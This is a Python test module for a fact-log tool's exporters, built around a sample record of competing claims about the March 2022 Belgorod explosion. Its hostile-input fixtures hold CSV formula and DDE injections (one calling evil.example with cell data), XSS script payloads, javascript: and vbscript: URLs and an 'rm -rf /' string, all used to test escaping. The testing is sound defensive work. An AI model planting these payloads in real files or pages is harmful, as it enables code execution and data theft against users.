"""The shared exporter test-suite: any exporter, built-in or from a plugin, checked the same way.

An exporter passes when, on a real log (the Belgorod story, and the same story full of hostile text), its
output read back with a real parser says what ``factlog status --json`` says, and two runs give the same bytes.
In a plugin's tests::

    from factlog.testing import ExporterSuite

    def parse(data: bytes) -> list[dict]:
        ...  # read the output with a real parser; per fact a dict with "fact", "status", "label", ...

    class TestMyFormat(ExporterSuite):
        format_name = "myformat"
        parse = staticmethod(parse)

or call ``check_exporter("myformat", parse, build_sample_log(tmp_path / "log.db"))`` directly.
``parse`` returns one mapping per fact, with ``fact`` and ``status`` and any of ``statement``, ``label``,
``parties`` (party slug or display name → stance) and ``sources`` (source id or name → stance).
Text is compared with runs of whitespace collapsed, as HTML and Markdown display it.
"""

from __future__ import annotations

import csv
import io
import json
import os
from collections.abc import Callable, Iterable, Mapping
from pathlib import Path
from typing import Any

Parse = Callable[[bytes], Iterable[Mapping[str, Any]]]

# --- the sample log ----------------------------------------------------------------------------------------

SOURCES = (
    ("article", "The seed article (UK tabloid)", "media", "united-kingdom", "C"),
    ("butusov", "Yuriy Butusov", "journalist", "ukraine", "C"),
    ("gladkov", "Vyacheslav Gladkov", "official", "russia", "B"),
    ("tass", "TASS", "agency", "russia", "C"),
    ("emergency-services-source", "Emergency services source (via TASS)", "anonymous", None, "F"),
    ("shoigu", "Sergey Shoigu", "official", "russia", "B"),
    ("western-official", "Western official (anonymous)", "anonymous", None, "C"),
)
FACTS = (
    ("belgorod-explosion", "An explosion took place near the village of Krasniy Oktyabr, Belgorod region, Russia",
     ("russia",)),
    ("belgorod-ukrainian-missile", "The Belgorod blast was caused by a missile fired from Ukraine",
     ("ukraine", "russia")),
    ("belgorod-resident-casualties", "Residents of Krasniy Oktyabr were killed or injured by the blast", ("russia",)),
    ("belgorod-soldiers-hurt", "Four Russian servicemen were hurt when the shell hit a temporary military camp",
     ("russia",)),
    ("russia-refocus-donbas", "Russian forces will now focus on the eastern Donbas region instead of major cities",
     ("russia",)),
    ("belgorod-second-blast", "A second blast hit the depot an hour later", ("russia",)),
    ("belgorod-investigation", "Russia opened a criminal investigation into the blast", ("russia",)),
)
STATEMENTS = (  # kind, fact, source, said at, quote, url
    ("claim", "belgorod-ukrainian-missile", "butusov", "2022-03-30T00:30:00+03:00",
     "An OTR-21 Tochka-U was fired by the Ukrainian 19th missile brigade", "https://t.me/butusovplus"),
    ("confirm", "belgorod-explosion", "gladkov", "2022-03-30T08:00:00+03:00",
     "Krasniy Oktyabr is the name of the village where the accident took place.", None),
    ("deny", "belgorod-resident-casualties", "gladkov", "2022-03-30T08:00:00+03:00",
     "There have been no deaths or injuries among the residents.", None),
    ("decline", "belgorod-ukrainian-missile", "gladkov", "2022-03-30T08:00:00+03:00", None, None),
    ("claim", "belgorod-ukrainian-missile", "tass", "2022-03-30T09:00:00+03:00",
     "Early reports suggested that the explosion was caused by a Ukrainian missile.", "https://tass.com/"),
    ("claim", "belgorod-soldiers-hurt", "emergency-services-source", "2022-03-30T09:00:00+03:00",
     "Four soldiers were hurt", None),
    ("claim", "belgorod-soldiers-hurt", "tass", "2022-03-30T09:00:00+03:00",
     "The shell hit the land of a temporary military camp in the Belgorod area. Four soldiers were hurt.", None),
    ("claim", "belgorod-explosion", "article", "2022-03-30T12:00:00+01:00",
     "New visuals suggest that an explosion took place in Belgorod, western Russia.", None),
    ("confirm", "russia-refocus-donbas", "shoigu", "2022-03-29T18:00:00+03:00",
     "Russian forces will now focus on 'liberating' the eastern part of the Donbass region", None),
    ("deny", "russia-refocus-donbas", "western-official", "2022-03-30T12:00:00+01:00",
     "Nothing that we have seen so far has shown us that they are serious", None),
)

# Text that breaks naive exporters: spreadsheet formulas, table pipes, line breaks, HTML, Markdown syntax.
HOSTILE_TEXTS = (
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3 @SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 after a tab",
    "a | b | c\n| --- | --- |\nline two\r\nline three",
    "<script>alert('x')</script><img src=x onerror=alert(1)>",
    "[click](javascript:alert(1)) ![img](data:text/html;base64,PHNjcmlwdD4=) <https://evil.example>",
    "`rm -rf /` ```fence``` **bold** _em_ ~~strike~~ \\escaped\\ [^1]",
    "&amp; &lt;b&gt; &#x6A; $x^2$ @mention #123 {{ template }} ${expr}",
    "# heading\n---\n> quote\n1. list\n    indented code",
    "Ж ü 北京 🙂 \u202eRTL\u202c \u00a0nbsp\u2028sep",
)
HOSTILE_URLS = (
    "javascript:alert(document.cookie)",
    " JaVaScRiPt:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "https://example.org/a_(b)|c?x=1&y=<2>&amp;z",
    'http://example.org/"onmouseover="alert(1)',
    "mailto:desk@example.org",
    "vbscript:msgbox(1)",
)


def build_sample_log(path: str | os.PathLike, hostile: bool = False) -> Any:
    """Record the Belgorod story (plus a retraction and a reworded fact) in a new log at ``path``.

    With ``hostile``, a hostile source, fact, quotes, notes and URLs are added to the same story.
    """
    from .log import open_log
    from .store import is_server_url

    location = os.fspath(path)
    path = path if is_server_url(location) else Path(location)  # a team log's URL is returned as given
    with open_log(location, user="factlog-testing") as log:
        for source, name, kind, party, reliability in SOURCES:
            log.add_source(source, name, kind, party, reliability, at="2022-03-29T12:00:00+00:00")
        for fact, statement, parties in FACTS:
            log.open_fact(fact, statement, parties, tags=["belgorod"], at="2022-03-29T12:00:00+00:00")
        for kind, fact, source, at, quote, url in STATEMENTS:
            log.state(kind, fact, source, quote=quote, url=url, at=at)
        withdrawn = log.claim("belgorod-second-blast", "tass", quote="A second blast was heard",
                              at="2022-03-30T10:00:00+03:00")
        log.retract(withdrawn.id, reason="TASS withdrew the report", at="2022-03-30T11:00:00+03:00")
        log.reword_fact("belgorod-soldiers-hurt", "Four Russian soldiers were hurt at a temporary military camp",
                        reason="closer to the TASS wording")
        if hostile:
            _add_hostile(log)
    return path


def _add_hostile(log: Any) -> None:
    texts, urls = HOSTILE_TEXTS, HOSTILE_URLS
    log.add_source("hostile", "Evil | <b>Source</b> [x](javascript:alert(1)) =cmd", "journalist",
                   at="2022-03-29T12:00:00+00:00")
    log.add_source("hostile-official", "@Official *Spokes*person\n`x`", "official", party="ukraine",
                   at="2022-03-29T12:00:00+00:00")
    log.open_fact("hostile-fact", texts[0] + "\n" + texts[4], ["ukraine"], at="2022-03-29T12:00:00+00:00")
    log.open_fact("hostile-denied", "=" + texts[5], ["russia"], at="2022-03-29T12:00:00+00:00")
    for index, text in enumerate(texts):
        kind = "claim" if index % 2 else "confirm"
        source = "hostile" if index % 2 else "hostile-official"
        fact = "hostile-fact" if index % 3 else "belgorod-explosion"
        log.state(kind, fact, source, quote=text, note=texts[-1 - index], url=urls[index % len(urls)],
                  at=f"2022-03-30T{10 + index:02d}:00:00+00:00")
    log.deny("hostile-denied", "hostile", quote=texts[3], url=urls[0], at="2022-03-30T09:00:00+00:00")


# --- running the real command line ----------------------------------------------------------------------------


def invoke(log_path: str | os.PathLike, *args: str) -> bytes:
    """Run ``factlog --db LOG ARGS`` through click's test runner; return stdout, fail on a non-zero exit."""
    from click.testing import CliRunner

    from .cli import cli

    result = CliRunner().invoke(cli, ["--db", os.fspath(log_path), *args], catch_exceptions=False)
    if result.exit_code != 0:
        raise AssertionError(f"factlog {' '.join(args)} exited {result.exit_code}: {result.output}")
    return result.stdout_bytes


def export(log_path: str | os.PathLike, format_name: str, *args: str) -> bytes:
    return invoke(log_path, "export", format_name, *args)


def status(log_path: str | os.PathLike, *args: str) -> list[dict]:
    return json.loads(invoke(log_path, "status", *args, "--json"))


def source_names(log_path: str | os.PathLike) -> dict[str, str]:
    return {row["id"]: row["name"] for row in json.loads(invoke(log_path, "source", "list", "--json"))}


# --- the checks ------------------------------------------------------------------------------------------------


def squash(text: Any) -> Any:
    """Whitespace runs collapsed to one space, as HTML and Markdown display text."""
    return " ".join(text.split()) if isinstance(text, str) else text


def _party_key(name: str) -> str:
    return "-".join(name.lower().split())


def compare(parsed: Iterable[Mapping[str, Any]], expected: list[dict], names: Mapping[str, str]) -> None:
    """Each parsed fact against ``status --json``: the same facts, and every field the parser gave agrees."""
    got = {row["fact"]: row for row in parsed}
    want = {row["fact"]: row for row in expected}
    assert sorted(got) == sorted(want), f"facts differ: exported {sorted(got)}, status has {sorted(want)}"
    for fact, row in got.items():
        truth = want[fact]
        assert "status" in row, f"{fact}: the parser found no status"
        for key in ("statement", "status", "label"):
            if key in row:
                assert squash(row[key]) == squash(truth[key]), f"{fact}: {key} {row[key]!r} != {truth[key]!r}"
        if "parties" in row:
            parties = {_party_key(name): stance for name, stance in row["parties"].items()}
            assert parties == truth["parties"], f"{fact}: parties {parties} != {truth['parties']}"
        if "sources" in row:
            sources = {squash(key): stance for key, stance in row["sources"].items()}
            by_name = {squash(names[key]): stance for key, stance in truth["sources"].items()}
            assert sources in (truth["sources"], by_name), f"{fact}: sources {sources} != {truth['sources']}"


def check_exporter(format_name: str, parse: Parse, log_path: str | os.PathLike, *args: str) -> list[Mapping]:
    """Export the log's beliefs as ``format_name`` and check them against ``status --json``.

    Also checks that two runs give the same bytes and that ``-o FILE`` writes exactly those bytes and leaves
    no temp file behind. Returns what ``parse`` read, for further checks.
    """
    first = export(log_path, format_name, *args)
    assert first == export(log_path, format_name, *args), f"{format_name}: two runs gave different bytes"
    folder = Path(log_path).parent / f"out-{format_name}"
    folder.mkdir(exist_ok=True)
    target = folder / f"export.{format_name}"
    invoke(log_path, "export", format_name, *args, "-o", str(target))
    assert target.read_bytes() == first, f"{format_name}: -o FILE differs from stdout"
    assert sorted(p.name for p in folder.iterdir()) == [target.name], "a temp file was left behind"
    clock_args = [a for a in args if not a.startswith("--view")]
    parsed = list(parse(first))
    compare(parsed, status(log_path, *_clock_only(clock_args)), source_names(log_path))
    return parsed


def _clock_only(args: list[str]) -> list[str]:
    """The clock options among export arguments, which ``status`` takes too."""
    kept, index = [], 0
    while index < len(args):
        if args[index] in ("--as-of", "--at-seq", "--valid-at"):
            kept += args[index:index + 2]
            index += 2
        else:
            index += 1
    return kept


def check_views(format_name: str, log_path: str | os.PathLike) -> dict[str, bytes]:
    """Every view the format offers exports deterministically; returns the output of each."""
    from .plugins import get_plugins

    outputs = {}
    for view in get_plugins().exporter(format_name).views:
        outputs[view] = export(log_path, format_name, "--view", view)
        again = export(log_path, format_name, "--view", view)
        assert outputs[view] == again, f"{format_name} --view {view}: two runs gave different bytes"
    return outputs


class ExporterSuite:
    """A pytest base class: subclass it with ``format_name`` and ``parse`` to run the whole suite."""

    format_name = ""

    @staticmethod
    def parse(data: bytes) -> Iterable[Mapping[str, Any]]:
        raise NotImplementedError("set parse = staticmethod(your_parser)")

    def test_reads_back_as_status(self, tmp_path: Path) -> None:
        check_exporter(self.format_name, self.parse, build_sample_log(tmp_path / "sample.db"))

    def test_reads_back_at_an_earlier_moment(self, tmp_path: Path) -> None:
        log_path = build_sample_log(tmp_path / "sample.db")
        check_exporter(self.format_name, self.parse, log_path, "--valid-at", "2022-03-30T06:00:00+00:00")
        check_exporter(self.format_name, self.parse, log_path, "--at-seq", "20")

    def test_hostile_text_reads_back(self, tmp_path: Path) -> None:
        check_exporter(self.format_name, self.parse, build_sample_log(tmp_path / "hostile.db", hostile=True))

    def test_every_view_is_deterministic(self, tmp_path: Path) -> None:
        check_views(self.format_name, build_sample_log(tmp_path / "sample.db"))

    def test_empty_log(self, tmp_path: Path) -> None:
        log_path = tmp_path / "empty.db"
        invoke(log_path, "init")
        assert list(self.parse(export(log_path, self.format_name))) == []


# --- parsers for the built-in formats (examples of ``parse``) --------------------------------------------------


def _key_values(cell: str) -> dict[str, str]:
    return dict(item.split("=", 1) for item in cell.split("; ")) if cell else {}


def unneutralise(cell: str) -> str:
    """Undo the CSV exporter's formula guard: ``'=1+1`` was ``=1+1``, ``''twas`` was ``'twas``."""
    return cell[1:] if cell.startswith("'") else cell


def parse_csv(data: bytes) -> list[dict[str, str]]:
    """A CSV export as dicts, with the python csv module."""
    return list(csv.DictReader(io.StringIO(data.decode("utf-8"), newline="")))


def parse_csv_beliefs(data: bytes) -> list[dict[str, Any]]:
    rows = []
    for row in parse_csv(data):
        rows.append({
            "fact": row["fact"], "statement": unneutralise(row["statement"]), "status": row["status"],
            "label": unneutralise(row["label"]), "parties": _key_values(row["parties"]),
            "sources": _key_values(row["sources"]),
        })
    return rows


def strict_json(data: bytes) -> Any:
    """JSON as a strict reader takes it: UTF-8 only, no NaN or Infinity."""
    def refuse(name: str) -> Any:
        raise ValueError(f"{name} in JSON")

    return json.loads(data.decode("utf-8"), parse_constant=refuse)


def parse_json_beliefs(data: bytes) -> list[dict[str, Any]]:
    return list(strict_json(data))


def parse_jsonl_beliefs(data: bytes) -> list[dict[str, Any]]:
    """The log read back line by line and folded again: its beliefs must be what ``status`` says."""
    from .beliefs import belief_fields, fold_log
    from .events import from_wire

    events = [from_wire(strict_json(line)) for line in data.splitlines()]
    return [belief_fields(belief) for belief in fold_log(events).beliefs()]


def markdown_parser() -> Any:
    """markdown-it-py as CommonMark plus GitHub tables and strikethrough."""
    from markdown_it import MarkdownIt

    return MarkdownIt("commonmark").enable(["table", "strikethrough"])


def inline_text(token: Any) -> str:
    """What an inline token displays, with escapes resolved."""
    return "".join(child.content if child.type != "softbreak" else " " for child in token.children or ()
                   if child.type in ("text", "code_inline", "softbreak", "text_special"))


def parse_markdown_report(data: bytes) -> list[dict[str, Any]]:
    """The Markdown report read with a CommonMark parser: per fact its fields, tables and links."""
    tokens = markdown_parser().parse(data.decode("utf-8"))
    facts: list[dict[str, Any]] = []
    heading = ""
    table: list[list[str]] | None = None
    row: list[str] | None = None
    for index, token in enumerate(tokens):
        if token.type == "heading_open":
            heading = token.tag + ":" + inline_text(tokens[index + 1])
            if token.tag == "h2":
                facts.append({"fact": inline_text(tokens[index + 1]), "tables": {}, "links": []})
        elif token.type == "table_open":
            table = []
            if facts:
                facts[-1]["tables"][heading] = table
        elif token.type == "tr_open":
            row = []
            if table is not None:
                table.append(row)
        elif token.type == "inline" and facts:
            facts[-1]["links"] += [c.attrs["href"] for c in token.children or () if c.type == "link_open"]
            if row is not None and tokens[index - 1].type in ("td_open", "th_open"):
                row.append(inline_text(token))
            elif tokens[index - 1].type == "paragraph_open":
                _paragraph(facts[-1], inline_text(token))
        elif token.type == "tr_close":
            row = None
        elif token.type == "table_close":
            table = None
    for fact in facts:
        standing = fact["tables"].get("h3:Standing statements", [[]])[1:]
        fact["sources"] = {cells[0]: cells[1].split(" ")[0] for cells in standing}
    return facts


def _paragraph(fact: dict[str, Any], text: str) -> None:
    key, _, value = text.partition(": ")
    if key == "Parties":
        fact["parties"] = dict(item.rsplit(": ", 1) for item in value.split("; ")) if value != "none tracked" else {}
    elif key in ("Statement", "Status", "Label"):
        fact[key.lower()] = value


BUILTIN_PARSERS: dict[str, Parse] = {
    "csv": parse_csv_beliefs,
    "json": parse_json_beliefs,
    "markdown": parse_markdown_report,
    "jsonl": parse_jsonl_beliefs,
}


# --- loading a plugin from its source tree ---------------------------------------------------------------


def use_plugin_from_source(project: Path, distribution: str, module: str, entry: str, site: Path,
                           monkeypatch: Any) -> Any:
    """Make a plugin's source tree loadable by factlog in its own tests, installed or not.

    When the plugin is not installed, its entry point is laid out in ``site`` as pip would install it (a
    ``.dist-info`` folder), so factlog finds it through ``importlib.metadata`` exactly as an installed plugin.
    ``monkeypatch`` (pytest's) undoes the path changes after the test. Returns the plugin's module.
    """
    import importlib
    import importlib.metadata as metadata

    import factlog.plugins

    monkeypatch.delenv("FACTLOG_LOAD_PLUGINS", raising=False)
    if not metadata.entry_points(group="factlog", name=entry):
        info = site / f"{module}-0.0.0.dist-info"
        info.mkdir()
        (info / "METADATA").write_text(f"Metadata-Version: 2.1\nName: {distribution}\nVersion: 0.0.0\n")
        (info / "entry_points.txt").write_text(f"[factlog]\n{entry} = {module}\n")
        monkeypatch.syspath_prepend(str(site))
        monkeypatch.syspath_prepend(str(project))
    factlog.plugins.reset()
    return importlib.import_module(module)
